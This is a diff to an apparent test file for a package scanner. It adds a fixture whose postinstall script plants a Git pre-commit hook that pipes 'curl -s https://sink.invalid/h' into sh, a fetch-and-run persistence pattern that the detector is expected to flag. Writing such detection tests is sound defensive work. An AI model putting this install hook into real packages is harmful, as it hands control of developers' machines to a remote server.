@@ -7,6 +7,15 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 examine(persists, {
   speaks: [
     {
+      when: 'a script writes a hook of Git that starts whatever a server gives',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'sh hook.sh' } },
+        'hook.sh': `#!/bin/sh\nprintf '#!/bin/sh\\\\ncurl -s https://sink.invalid/h | sh\\\\n' > "$(git rev-parse --show-toplevel)/.git/hooks/pre-commit"\n`,
+      },
+      says: ['which starts whatever a server gives then'],
+      weight: 'proof',
+    },
+    {
       when: 'a hook of Git asks whether a server is there, when somebody sets it up',
       files: {
         'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
